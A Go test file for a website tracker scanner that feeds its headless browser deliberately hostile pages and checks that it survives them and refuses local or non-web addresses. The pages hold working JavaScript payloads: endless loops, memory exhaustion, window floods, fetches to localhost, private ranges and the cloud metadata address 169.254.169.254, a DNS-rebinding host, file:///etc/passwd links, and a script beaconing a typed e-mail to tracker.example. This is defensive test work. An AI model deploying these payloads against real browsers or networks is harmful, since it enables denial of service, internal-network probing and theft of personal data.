package trackers_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"quietroom/rooms/trackers"
	"quietroom/rooms/trackers/chrome"
)

// world lets names of the Internet lead to servers of the test.
func world(hosts map[string]http.Handler, t testing.TB) chrome.Network {
	servers := map[string]string{}
	for name, h := range hosts {
		srv := httptest.NewUnstartedServer(h)
		srv.Config.ErrorLog = nil
		srv.Start()
		t.Cleanup(srv.CloseClientConnections)
		servers[name] = srv.Listener.Addr().String()
	}
	var public sync.Map // address -> server
	return chrome.Network{
		Lookup: func(_ context.Context, host string) ([]netip.Addr, error) {
			at, ok := servers[host]
			if !ok {
				return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
			}
			a := netip.MustParseAddr(fmt.Sprintf("93.184.216.%d", 1+len(host)))
			public.Store(a.String(), at)
			return []netip.Addr{a}, nil
		},
		Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
			host, _, _ := net.SplitHostPort(addr)
			at, ok := public.Load(host)
			if !ok {
				return nil, fmt.Errorf("nobody listens at %s", addr)
			}
			return new(net.Dialer).DialContext(ctx, network, at.(string))
		},
	}
}

const form = `<form method="post" action="/send"><label>E-mail <input name="email" type="email"></label><label>Reason <textarea name="reason"></textarea></label><button>Send</button></form>`

// hostile pages do what breaks a browser, or the machine behind it.
var hostile = map[string]string{
	"/loops":       form + `<script>for(;;){}</script>`,
	"/later-loops": form + `<script>document.querySelector('input').addEventListener('input',()=>{for(;;){}})</script>`,
	"/windows":     form + `<script>for(let i=0;i<100;i++)open('/about?'+i)</script>`,
	"/asks":        form + `<script>navigator.geolocation.getCurrentPosition(()=>{});Notification.requestPermission();navigator.mediaDevices?.getUserMedia({video:true}).catch(()=>{});alert(1);confirm(2);prompt(3);onbeforeunload=(e)=>{e.preventDefault();return 'stay'}</script>`,
	"/eats":        form + `<script>const all=[];setInterval(()=>{for(let i=0;i<4;i++)all.push(new Uint8Array(64<<20).fill(7))},10)</script>`,
	"/reaches":     form + `<script>for(const a of ['http://127.0.0.1:PORT/','http://localhost:PORT/','http://192.168.1.1/admin','http://10.0.0.1/','http://169.254.169.254/latest/meta-data/','http://[::1]:PORT/'])fetch(a,{mode:'no-cors'}).catch(()=>{});new WebSocket('ws://127.0.0.1:PORT/');new Image().src='http://rebinds.example/'</script>`,
	"/reloads":     form + `<script>setTimeout(()=>location.reload(),200)</script>`,
	"/frames":      strings.Repeat(`<iframe src="/about"></iframe>`, 30) + form,
	"/wall":        `<title>Just a moment...</title>Checking your browser`,
	"/captcha":     form + `<div class="g-recaptcha"></div>`,
	"/next":        strings.Replace(form, "Send", "Next", 1),
	"/members":     `<title>Sign in</title><form><label>Password <input type="password" name="p"></label><button>Sign in</button></form>`,
	"/schemes":     `<a href="file:///etc/passwd">a</a><a href="data:text/html,<h1>b</h1>">b</a><a href="javascript:alert(1)">c</a><a href="ftp://x.example/">d</a>` + form,
	"/german":      `<html lang="de"><title>Termin anfragen</title><form><label>Ihr Name <input name="vorname"></label><label>E-Mail-Adresse <input name="mail"></label><label>Grund <textarea name="grund"></textarea></label><button>Absenden</button></form><script>document.querySelector('[name=mail]').onchange=(e)=>{new Image().src='http://tracker.example/p?m='+encodeURIComponent(e.target.value)}</script>`,
}

func TestAHostileSiteDoesNotStopAScan(t *testing.T) {
	needsBrowser(t)
	t.Parallel()
	var reached atomic.Int32
	home := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) })) // something on this machine
	t.Cleanup(home.Close)
	_, port, _ := net.SplitHostPort(home.Listener.Addr().String())
	var sent atomic.Int64
	site := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch page, ok := hostile[r.URL.Path]; {
		case r.Method == http.MethodPost:
			t.Errorf("something was sent to %s", r.URL.Path)
		case r.URL.Path == "/":
			fmt.Fprint(w, `<title>Harbor</title>`)
			for p := range hostile {
				fmt.Fprintf(w, `<a href="%s">%s</a> `, p, p)
			}
			fmt.Fprint(w, `<a href="/endless">x</a><a href="/slow">x</a><a href="/round">x</a><a href="/away">x</a><a href="/paper">x</a><a href="/refused">x</a><a href="/many">x</a>`)
		case ok:
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = io.WriteString(w, strings.ReplaceAll(page, "PORT", port))
		case r.URL.Path == "/about":
			fmt.Fprint(w, "<p>about")
		case r.URL.Path == "/many":
			for i := range 10_000 {
				fmt.Fprintf(w, `<a href="/many/%d">%d</a>`, i, i)
			}
		case r.URL.Path == "/endless": // 5 GB and more
			w.Header().Set("Content-Type", "text/html")
			block := []byte(strings.Repeat("<p>more and more", 4096))
			for r.Context().Err() == nil {
				n, err := w.Write(block)
				if sent.Add(int64(n)); err != nil {
					return
				}
			}
		case r.URL.Path == "/slow":
			fmt.Fprint(w, "<p>it begins")
			w.(http.Flusher).Flush()
			<-r.Context().Done()
		case r.URL.Path == "/round":
			http.Redirect(w, r, "/round", http.StatusFound)
		case r.URL.Path == "/away":
			http.Redirect(w, r, "http://other.example/", http.StatusFound)
		case r.URL.Path == "/paper":
			w.Header().Set("Content-Type", "application/pdf")
			fmt.Fprint(w, "%PDF-1.4")
		case r.URL.Path == "/refused":
			w.WriteHeader(http.StatusForbidden)
		default:
			http.NotFound(w, r)
		}
	})
	other := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "<p>other") })
	n := world(map[string]http.Handler{"harbor.example": site, "other.example": other, "tracker.example": other}, t)
	lookup := n.Lookup
	n.Lookup = func(ctx context.Context, host string) ([]netip.Addr, error) {
		if host == "rebinds.example" { // a name of the Internet that leads to this machine
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		}
		return lookup(ctx, host)
	}
	r, err := trackers.Scan(context.WithoutCancel(t.Context()), trackers.Once(trackers.Options{URL: "http://harbor.example/", Pages: len(hostile) + 8, Dir: profile(t), Net: n, Most: 15 * time.Second}))
	if errors.Is(err, chrome.ErrSandbox) {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	problems := map[string]chrome.Problem{}
	for _, p := range r.Pages {
		u, _ := url.Parse(p.URL)
		problems[u.Path] = p.Problem
		t.Logf("%s %q %s %d ms", u.Path, p.Problem, p.Why, p.TookMS)
	}
	for path := range hostile {
		if _, ok := problems[path]; !ok {
			t.Errorf("%s was not opened: the scan did not get that far", path)
		}
	}
	for path, want := range map[string][]chrome.Problem{"/loops": {chrome.Hung}, "/wall": {chrome.Blocked}, "/refused": {chrome.Blocked}, "/eats": {chrome.Crashed, chrome.Hung}, "/away": {chrome.Elsewhere}, "/round": {chrome.Unreachable}, "/paper": {chrome.NotHTML},
		"/windows": {""}, "/asks": {""}, "/frames": {""}, "/german": {""}, "/schemes": {""}, "/reaches": {""}, "/captcha": {""}, "/next": {""}} {
		ok := false
		for _, p := range want {
			ok = ok || problems[path] == p
		}
		if !ok {
			t.Errorf("%s: problem %q, want one of %q", path, problems[path], want)
		}
	}
	if got := reached.Load(); got > 0 {
		t.Errorf("a page reached something on this machine %d times", got)
	}
	local, german, asks := map[string]bool{}, false, 0
	for _, f := range r.Findings {
		switch {
		case f.Kind == trackers.LocalNetwork:
			local[f.To] = true
		case f.Kind == trackers.FormData && f.To == "tracker.example" && strings.Contains(f.What, "e-mail"):
			german = true
		case f.Kind == trackers.Permission:
			asks++
		}
	}
	for _, host := range []string{"127.0.0.1", "localhost", "192.168.1.1", "10.0.0.1", "169.254.169.254", "rebinds.example"} {
		if !local[host] {
			t.Errorf("that a page reached for %s is not told: %v", host, local)
		}
	}
	if !german {
		t.Error("after all that, a leak of a page in German was not found")
	}
	if asks < 2 {
		t.Errorf("%d requests for permission are told, want 2 or more", asks)
	}
	if got := sent.Load(); got > 400<<20 {
		t.Errorf("%d MB were taken of a page without end", got>>20)
	}
	for _, want := range []string{"shows visitors like this scan something else", "did not come to an end", "prove that they are people", "asks for a password", "leads to another site"} {
		if !strings.Contains(strings.Join(r.Notes, "\n"), want) {
			t.Errorf("no note says %q: %q", want, r.Notes)
		}
	}
	t.Logf("%d pages, %.1f s, %d MB", len(r.Pages), float64(r.TookMS)/1000, r.PeakBytes>>20)
}

func TestWhatIsNoSiteIsRefused(t *testing.T) {
	for address, want := range map[string]error{
		"file:///etc/passwd": trackers.ErrAddress, "data:text/html,x": trackers.ErrAddress, "javascript:alert(1)": trackers.ErrAddress, "http://": trackers.ErrAddress, "ftp://a.example/": trackers.ErrAddress, "https://user:word@a.example/": trackers.ErrAddress,
		"http://127.0.0.1:8080/": trackers.ErrLocal, "http://localhost/": trackers.ErrLocal, "http://[::1]/": trackers.ErrLocal, "http://10.1.2.3/": trackers.ErrLocal, "http://169.254.169.254/": trackers.ErrLocal, "http://0.0.0.0/": trackers.ErrLocal, "http://[::ffff:127.0.0.1]/": trackers.ErrLocal,
	} {
		if _, err := trackers.Scan(t.Context(), trackers.Options{URL: address}); !errors.Is(err, want) {
			t.Errorf("%s: %v, want %v", address, err, want)
		}
	}
	for _, address := range []string{"http://10.1.2.3/", "http://192.168.0.1/", "http://[::1]/"} { // --allow-local allows 127.0.0.0/8 and nothing else
		if _, err := trackers.Scan(t.Context(), trackers.Options{URL: address, Local: true}); !errors.Is(err, trackers.ErrLocal) {
			t.Errorf("%s with --allow-local: %v, want %v", address, err, trackers.ErrLocal)
		}
	}
}
